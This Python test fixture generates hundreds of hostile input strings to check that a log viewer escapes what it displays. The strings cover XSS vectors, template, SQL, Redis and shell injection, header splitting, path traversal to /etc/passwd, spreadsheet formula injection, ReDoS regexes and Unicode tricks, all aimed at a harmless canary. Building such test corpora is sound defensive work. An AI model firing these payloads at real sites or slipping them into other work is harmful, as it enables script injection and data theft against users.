"""Hostile strings: what a log may be sent by those it reports on. Whatever of it runs shows itself.

Each string that is a program, once it is taken for one, sets `window.pwned` or asks for CANARY.
"""

from collections.abc import Iterator
from itertools import product

RUN = "window.pwned=1"
CANARY = "/pwned"

_FETCH = f"fetch('{CANARY}')"
_ENTITIES = "".join(f"&#{ord(letter)};" for letter in RUN)
_HEX = "".join(f"&#x{ord(letter):X};" for letter in RUN)
_ESCAPES = "".join(f"\\u{ord(letter):04x}" for letter in "pwned")

# What stands around a string where somebody wrote it into a page unescaped, and how one gets out of that.
_WAYS_OUT = (
    "",
    '">',
    "'>",
    ">",
    "--></",
    "]]>",
    "</script>",
    "</style>",
    "</textarea>",
    "</title>",
    "</noscript>",
    "</xmp>",
    "</pre></code>",
    "</template>",
    "</option></select>",
    "</svg></math>",
    "</td></tr></table>",
    "</iframe></noembed></noframes>",
)
_RUNNERS = (
    f"<script>{RUN}</script>",
    f"<img src=x: onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN.removeprefix('window.')}</script>'></iframe>",
)

_ELEMENTS = (
    ("body", "onload"),
    ("body", "onpageshow"),
    ("div", "onmouseover"),
    ("input autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("video src=x:", "onerror"),
    ("audio src=x:", "onerror"),
    ("object data=x:", "onerror"),
    ("img src=x: srcset=x:", "onerror"),
    ("select autofocus", "onfocus"),
    ("div contenteditable autofocus tabindex=0", "onfocusin"),
    ("p style=animation:is-fresh", "onanimationstart"),
    ("p style=transition:1ms", "ontransitionend"),
    ("marquee", "onstart"),
    ("form", "onsubmit"),
)
_QUOTINGS = ("{}", '"{}"', "'{}'", "`{}`")

_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "java\r\nscript:",
    " \x01javascript:",
    "javascript\t:",
    "javascript&colon;",
    "&#106;avascript:",
    "&#x6A;avascript&Tab;:",
    "j&#97;v&#x61;script&NewLine;:",
    "%6aavascript:",
    "javascript://example.org/%0a",
    "vbscript:",
    "data:text/html,<script>parent.",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==#",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='",
    "blob:null/",
    "view-source:javascript:",
    "feed:javascript:",
)
_LINKS = ("{}", '<a href="{}">x</a>', '<iframe src="{}">', '<form action="{}"><button autofocus>')


def scripts() -> Iterator[str]:
    """Yield script elements in many spellings."""
    for way, runner in product(_WAYS_OUT, _RUNNERS):
        yield way + runner
    yield from (
        f"<{name}>{RUN}</{name}>" for name in ("SCRIPT", "ScRiPt", "script/x", "script\t", "script\n", "script\f")
    )
    yield from (
        f"<script src={CANARY}></script>",
        f'<script src="//{CANARY[1:]}.invalid/x.js"></script>',
        f"<script type=module>{RUN}</script>",
        f"<script type=module src={CANARY}></script>",
        f'<script type=importmap>{{"imports": {{"./api.js": "{CANARY}"}}}}</script>',
        f"<script>{RUN}",
        f"<script>{RUN}//",
        f"<script>/*</script>*/{RUN}</script>",
        f"<script><!--\n{RUN}\n--></script>",
        f"<script>window.{_ESCAPES}=1</script>",
        "<script>self['pw'+'ned']=1</script>",
        f"<script>{_FETCH}</script>",
        f"<<script>script>{RUN}<</script>/script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<scr\x00ipt>{RUN}</scr\x00ipt>",
        f"\x00<script>{RUN}</script>\x00",
        f"%3Cscript%3E{RUN}%3C/script%3E",
        f"&lt;script&gt;{RUN}&lt;/script&gt;",
        f"&amp;lt;script&amp;gt;{RUN}",
        f"&#60;script&#62;{RUN}&#60;/script&#62;",
        f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
        f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
        f"\u02bascript\u02ba>{RUN}",
        f"\xbcscript\xbe{RUN}\xbc/script\xbe",
        f"\x1b$B<script>{RUN}</script>",
    )


def handlers() -> Iterator[str]:
    """Yield event handlers in all ways of quoting, as elements and as what follows a value."""
    for (element, event), quoting in product(_ELEMENTS, _QUOTINGS):
        yield f"<{element} {event}={quoting.format(RUN)}>"
    for quote, event in product(('"', "'", " ", "/", "\n", "`"), ("onfocus", "onmouseover", "onerror")):
        yield f"x{quote} {event}={quote.strip('/ ')}{RUN}{quote.strip('/ ')} autofocus tabindex=1 x={quote.strip('/ ')}"
    yield from (
        f"<img src=x: onerror={_ENTITIES}>",
        f"<img src=x: onerror={_HEX}>",
        f"<img src=x: onerror=window.{_ESCAPES}=1>",
        f"<IMG SRC=x: ONERROR={RUN}>",
        f"<img/src=x:/onerror={RUN}>",
        f"<img\nsrc=x:\nonerror\n=\n{RUN}\n>",
        f"<img\fsrc=x:\fonerror={RUN}>",
        f"<img src=x: onerror={RUN}//",
        f'<img src="x:` `<script>{RUN}</script>"` `>',
        f"<img src={CANARY}>",
        f"<img srcset='{CANARY} 1x'>",
        f"<video poster={CANARY}>",
        f"<input type=image src={CANARY}>",
        f"<body background={CANARY}>",
        f"<table background={CANARY}>",
        f"<button popovertarget=looks popovertargetaction=show onbeforetoggle={RUN}>",
        f'"autofocus onfocus="{RUN}" x="',
        f"'autofocus onfocus='{RUN}' x='",
        f"&quot;><img src=x: onerror={RUN}>",
        f'\\"><img src=x: onerror={RUN}>',
    )


def addresses() -> Iterator[str]:
    """Yield addresses that run, bare and in elements that follow one."""
    for scheme, link in product(_SCHEMES, _LINKS):
        yield link.format(scheme + RUN)
    yield from (
        f"<meta http-equiv=refresh content='0;url={CANARY}'>",
        f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
        "<meta http-equiv=set-cookie content='logster_csrf=x'>",
        "<meta charset=utf-7>",
        "<base href=//pwned.invalid/>",
        f"<base href={CANARY}/ target=_parent>",
        f"<link rel=stylesheet href={CANARY}>",
        f"<link rel=preload as=script href={CANARY}>",
        f"<link rel=prefetch href={CANARY}>",
        f"<link rel=manifest href={CANARY}>",
        f"<embed src={CANARY}>",
        f"<object data={CANARY}></object>",
        f"<frameset><frame src={CANARY}></frameset>",
        f"<portal src={CANARY}>",
        f"<iframe src={CANARY}></iframe>",
        f"<form id=bulk action={CANARY}><input name=csrf_token>",
        f"<a ping={CANARY} href=#entries>x</a>",
        f"http://user:password@127.0.0.1{CANARY}",
        f"//127.0.0.1{CANARY}",
        f"\\\\127.0.0.1{CANARY}",
    )


def foreign() -> Iterator[str]:
    """Yield SVG, MathML, and what changes its meaning when it is parsed twice."""
    run = f"<img src=x: onerror={RUN}>"
    yield from (
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><script href={CANARY}></script></svg>",
        f"<svg><script>{_ENTITIES}</script></svg>",
        f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><set attributeName=onmouseover to={RUN}>",
        f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
        f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}></svg>#x'/></svg>",
        f"<svg><image href={CANARY}></svg>",
        f"<svg><title>{run}</title></svg>",
        f"<svg><desc><![CDATA[</desc>{run}]]></svg>",
        f"<svg><style>{run}</style></svg>",
        f"<math><mtext><style>{run}</style></mtext></math>",
        f"<math href=javascript:{RUN}>x</math>",
        f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
        f"<math><annotation-xml encoding=text/html>{run}</annotation-xml></math>",
        f"<math><mglyph><svg><mtext><textarea><path id='</textarea>{run}'>",
        f"<form><math><mtext></form><form><mglyph><style></math>{run}",
        f"<svg></p><style><a id='</style>{run}'>",
        f"<noscript><p title='</noscript>{run}'>",
        f"<listing>&lt;{run[1:]}</listing>",
        f"<xmp><p title='</xmp>{run}'>",
        f"<textarea><p title='</textarea>{run}'>",
        f"<title><p title='</title>{run}'>",
        f"<noembed><p title='</noembed>{run}'>",
        f"<plaintext>{run}",
        f"<template><p title='</template>{run}'>",
        f"<template shadowrootmode=open>{run}</template>",
        f"<table><td>{run}",
        f"<select><template><style><!--</style>{run}-->",
        f"<a title='`-->{run}'>",
        f"<p title='-->{run}'>",
        f"<?xml version='1.0'?>{run}",
        f"<!DOCTYPE x [<!ENTITY y '{RUN}'>]><x>&y;</x>",
        f"<!ELEMENT {run}>",
        f"<%= {RUN} %>{run}",
        f"<![CDATA[{run}",
        f"<![CDATA[{run}]]>",
        f"<!--{run}-->",
        f"<!-->{run}",
        f"<!--->{run}",
        f"<!--[if IE]>{run}<![endif]-->",
        f"--!>{run}",
        f"</{run}",
        f"<x{run}",
        f"<logster-list></logster-list>{run}",
        f"<logster-entry data-key=x>{run}",
        f"<is-html is=logster-live>{run}",
        f"<slot>{run}</slot>",
    )  # fmt: skip


def styles() -> Iterator[str]:
    """Yield CSS that loads, covers the page, or ends where it stands."""
    for css in (
        f"background:url({CANARY})",
        f"background:url('javascript:{RUN}')",
        f"@import '{CANARY}';",
        f"width:expression({RUN})",
        f"behavior:url({CANARY})",
        f"-moz-binding:url({CANARY}#x)",
        "position:fixed;inset:0;z-index:9999;background:red",
        "display:none!important",
        f"\\62 ackground:url({CANARY})",
    ):
        yield css
        yield f'<p style="{css}">x</p>'
        yield f"<style>*{{{css}}}</style>"
    yield f"}}</style><script>{RUN}</script>"
    yield f"--logster-split: url({CANARY})"
    yield "/* */ } body { display: none }"


def programs() -> Iterator[str]:
    """Yield what templates, scripts, formats, databases and shells would take for theirs."""
    for inner in ("1234567*7", "config", "self.__init__.__globals__", "''.__class__.__mro__"):
        yield from (
            form % inner for form in ("{{ %s }}", "{%% print(%s) %%}", "${%s}", "#{%s}", "<%%= %s %%>", "`${%s}`")
        )
    yield from (
        "{% raw %}", "{# comment", "{% endblock %}{% include 'base.html' %}", "{{ ''|safe }}", "{{ caller() }}",
        f"'-({RUN})-'", f'"-({RUN})-"', f"';{RUN}//", f'";{RUN}//', f"\\';{RUN}//", f"`;{RUN}//", f"${{{RUN}}}",
        f"*/{RUN}/*", f"\u2028{RUN}\u2029", f"\r\n{RUN}\r\n", f"</script>{RUN}", f"{RUN}<!--<script>",
        f'"}}]}};{RUN};{{"', '{"a": "</script><script>"}', '{"__proto__": {"pwned": 1}}', "\\", '\\"', "\\\\'", "}]}",
        '":"', "',", '"\n"', "\n\"x\":1", "-\"message\"", "null", "undefined", "NaN", "Infinity", "-0", "1e999",
        "true", "[]",
        "{}", "[[[[[[", "%s%s%s%n%x", "%(message)s", "{0.__class__}", "{message!r:>999999}", "%", "%%", "%0", "%n" * 40,
        "' OR '1'='1", "'; DROP TABLE entries; --", "1; SELECT pg_sleep(9)", "*3\r\n$3\r\nDEL\r\n$1\r\n*\r\n",
        "\r\nFLUSHALL\r\n", "EVAL \"return 1\" 0", "{logster:default}:recent:40", "$-1\r\n", "+OK\r\n", "PING\r\n",
        "../../../../etc/passwd", "..%2f..%2f", "....//....//", "/settings", "./", "..\\..\\", "C:\\con\\nul",
        "file:///etc/passwd",
        "?q=x&key=y#z", "#", "&", "a=b&c=d", "key?tab=env", "%2e%2e%2f", "%00", "%0d%0aSet-Cookie:x=y", "%", "%zz", "+",
        f"x\r\nSet-Cookie: a=b\r\n\r\n<script>{RUN}</script>", "x\nContent-Type: text/html\n\n", "x\rLocation: /pwned",
        "data: {}\n\nevent: change\ndata: x\n\n", "event: refresh\n\n", ": heartbeat", "retry: 0\n",
        "$(touch pwned)", "`touch pwned`", "| touch pwned", "=cmd|'/c calc'!A0", "@SUM(1)", "=HYPERLINK(\"/pwned\")",
        f"[x](javascript:{RUN})", f"![x]({CANARY})", "```\n# Heading\n```", "# Heading", "> quote", "| a | b |",
        f"<{CANARY}>", f"[x]: javascript:{RUN}", "~~~~", "&copy;&nbsp;&lt;&#0;&#x110000;&bogus;", "&NotEqualTilde;",
    )  # fmt: skip


def names() -> Iterator[str]:
    """Yield names that objects have, that the page's scripts go by, and elements that would take them over."""
    own = (
        "pwned",
        "bulk",
        "q",
        "keys",
        "looks",
        "syntax",
        "entries",
        "completions",
        "mistake",
        "icon-error",
        "csrf-token",
    )
    builtin = [
        "__proto__",
        "constructor",
        "prototype",
        "toString",
        "valueOf",
        "hasOwnProperty",
        "__defineGetter__",
        "then",
        "length",
        "name",
        "body",
        "forms",
        "getElementById",
        "querySelector",
        "cookie",
        "location",
        "document",
        "window",
        "self",
        "top",
        "parent",
        "attributes",
        "children",
        "innerHTML",
        "parentNode",
        "items",
        "keys",
        "values",
        "get",
        "pop",
        "update",
        "nodeName",
        "isConnected",
        "dataset",
        "action",
        "method",
        "submit",
        "key",
        "time",
        "url",
        "request",
        "self.items",
        "loop",
        "caller",
        "varargs",
        "kwargs",
        "entry",
        "place",
        "base",
        "token",
    ]
    yield from builtin
    yield from (f"<a id={name}></a><a id={name} name=x href={CANARY}>" for name in own)
    yield from (
        f"<form name={name}><input name=dataset><input name=children></form>" for name in ("body", "forms", "cookie")
    )
    yield from (f"<img name={name}>" for name in ("getElementById", "querySelector", "createElement", "location"))
    yield from (f'"][data-key="{name}"]' for name in own[:3])
    yield from ('"]', "'] *", ":is(*)", "*{}", ">*", "\\31 23", "data-key", "is-error", "row-link")


def expressions() -> Iterator[str]:
    """Yield regular expressions and queries that are no such, or cost whoever matches them by backtracking."""
    yield from (
        "(a+)+$", "(a|a)*b", "(.*)*=.*", "([a-zA-Z]+)*!", "(x+x+)+y", "^(([a-z])+.)+[A-Z]([a-z])+$", "(?=a)b",
        "(?<!a)b",
        "(a)\\1", "(?P<n>a)(?P=n)", "a{1000}{1000}", "((((((((a{9}){9}){9}){9}){9}){9}){9}){9})", "[z-a]", "[", "(",
        ")",
        "a**", "?", "+x", "(?i", "(?#", "\\", "[[:foo:]]", "\\p{Foo}", "\\x{110000}", "(?:)", ".*", "^", "$", "a|",
        "|a", "()",
        "/x/g", "/x/ii", "/", "//", "///", "/a/b/i", "/\\//", "/<script>/", f"/<script>{RUN}</script>/i", "/(?i)x\\/y/",
        "/[/", "/(/i", "/a+/i", "level:", "level:<script>", "level:>=<img>", "logger:", "logger:\"<b>\"", "env.:x",
        "env.__proto__:x",
        "env.<b>:<i>", "count:>x", "count:>99999999999999999999", "since:", "since:<b>", "since:9999999w", "is:<svg>",
        "is:",
        "unknown:x", "-", "--", "-\"", "\"", "\"\"", "\"<b>", "type:\"", "-level:debug -", "OR AND NOT", "a:b:c:d",
        "*", "version:*<*",
    )  # fmt: skip


def letters() -> Iterator[str]:
    """Yield characters that do something: nothing, controls, directions, stacks, halves, and very many."""
    yield from (f"a{chr(code)}b{chr(code)}" for code in (*range(0x20), *range(0x7F, 0xA1), 0xAD))
    yield from (
        f"safe{chr(code)}gnp.exe"
        for code in (*range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x206A), 0xFEFF)
    )
    yield from (
        "", " ", "\n", "\t\t", "\u3000", "\u3164", "\u115f", "\u180e", "\ufffc", "\ufffd", "\ufffe", "\uffff",
        "\U0010ffff", "\ue000",
        "\ud800", "a\udc00b", "\udfff\ud800", f"\ud800<script>{RUN}</script>", "\U000e0041\U000e007f", "\u034f",
        "\u061c",
        "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://127.0.0.1/pwned\x07x\x1b]8;;\x07",
        "\x9b31m",
        "\x1bP\x1b\\", "\u202e" * 50 + "moc.elpmaxe", "\u2066" * 30 + "x", "\u05e9\u05dc\u05d5\u05dd <b>",
        "\u0645\u0631\u062d\u0628\u0627 {x} abc",
        "a" + "\u0300" * 500, "Z\u0351\u036b\u0343" * 60, "\u0e49" * 100,
        "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f9e8" * 100,
        "\U0001f3f4\U000e0067\U000e0062\U000e007f", "1\ufe0f\u20e3", "\U0001f1e6" * 9, "\ufdfd" * 30, "\ud83d",
        "\u1f88\u0130\u0131\u017f\u212a", "\ufb03\u00df",
        "W" * 5_000, "W " * 2_000, "<" * 1_000, "&" * 1_000, "'\"" * 500, "\n" * 300 + "x", "\t" * 300 + "x",
        "a\n" * 400, "-" * 2_000,
        "<div>" * 600, "<b><i>" * 300, "<svg>" * 300, "(" * 300, "[" * 300, "{" * 300, "{{" * 100, "/*" * 200,
        "<!--" * 100, "\\" * 333,
        "&lt;" * 200, "&amp;" * 100 + "lt;b&gt;", "%25" * 100 + "3Cb%3E", "\u0130" * 200, "\u4e2d" * 800,
        "\xa0" * 400 + "x",
    )  # fmt: skip


FAMILIES = {
    family.__name__: tuple(dict.fromkeys(family()))
    for family in (scripts, handlers, addresses, foreign, styles, programs, names, expressions, letters)
}
STRINGS = tuple(dict.fromkeys(text for family in FAMILIES.values() for text in family))
